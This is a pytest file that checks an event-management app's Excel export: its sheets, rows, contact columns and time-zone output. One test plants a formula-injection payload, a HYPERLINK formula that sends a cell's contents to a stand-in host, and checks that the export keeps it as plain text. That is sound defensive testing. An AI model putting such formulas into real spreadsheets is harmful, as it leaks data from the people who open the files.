"""The Excel export: every sheet and row, and formula-like text kept as text."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from matchfair.web.directory.models import Organization

pytestmark = pytest.mark.django_db


def _download(organizer_client, event) -> bytes:
    response = organizer_client.get(reverse("orga:export_workbook", args=[event.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="nordic-2024.xlsx"'
    return response.content


def test_every_sheet_with_its_rows(organizer_client, event):
    book = load_workbook(io.BytesIO(_download(organizer_client, event)), read_only=True)
    assert book.sheetnames == [
        "Organizations",
        "Opportunities",
        "Requests",
        "Meetings",
        "Interpreters",
    ]
    organizations = list(book["Organizations"].values)
    assert organizations[0][:3] == ("Organization id", "Organization name", "Country")
    assert [row[0] for row in organizations[1:]] == ["tegnology", "tsinghua-energy", "smart-eye"]
    requests = list(book["Requests"].values)
    assert requests[1] == ("tegnology", "tsinghua-energy", 3, "accepted", True, "day1-pm")
    meetings = list(book["Meetings"].values)
    assert meetings[1][:6] == (
        "2024-11-18 14:00",
        "14:20",
        "day1-pm",
        "table-1",
        False,
        "TEGnology",
    )


def test_text_that_looks_like_a_formula_stays_text(organizer_client, event):
    formula = '=HYPERLINK("http://127.0.0.1:9/?leak="&B3,"click")'
    Organization.objects.filter(participations__code="smart-eye").update(name=formula)
    book = load_workbook(io.BytesIO(_download(organizer_client, event)))
    cell = book["Organizations"]["B4"]
    assert (cell.value, cell.data_type) == (formula, "s")


def test_the_organizations_sheet_lists_each_contact_as_the_import_reads_it(organizer_client, event):
    from matchfair.web.directory.models import Participation
    from matchfair.web.directory.spreadsheets.mapping import guess_mapping
    from tests.web.factories import delegate

    user = delegate(Participation.objects.get(event=event, code="tegnology"), "teg")
    user.first_name, user.last_name, user.email = "Mads", "Hansen", "mads@teg.example"
    user.save()
    book = load_workbook(io.BytesIO(_download(organizer_client, event)), read_only=True)
    rows = list(book["Organizations"].values)
    mapping = guess_mapping(list(rows[0]))
    assert (rows[1][mapping["contact_name"]], rows[1][mapping["contact_email"]]) == (
        "Mads Hansen",
        "mads@teg.example",
    )
    assert rows[2][mapping["contact_email"]] in ("", None)


def test_availability_and_interpreters_are_written_in_the_events_zone(organizer_client, event):
    from matchfair.web.directory.spreadsheets.mapping import guess_mapping

    book = load_workbook(io.BytesIO(_download(organizer_client, event)), read_only=True)
    rows = list(book["Organizations"].values)
    column = guess_mapping(list(rows[0]))["availability"]
    assert [row[column] for row in rows[1:]] == [
        "2024-11-18 14:00-15:00; 2024-11-19 09:00-10:00",
        None,
        None,
    ]
    assert list(book["Interpreters"].values) == [
        ("Interpreter id", "Languages", "Available times"),
        ("interp-1", "zh, en", "2024-11-18 14:00-16:00"),
    ]
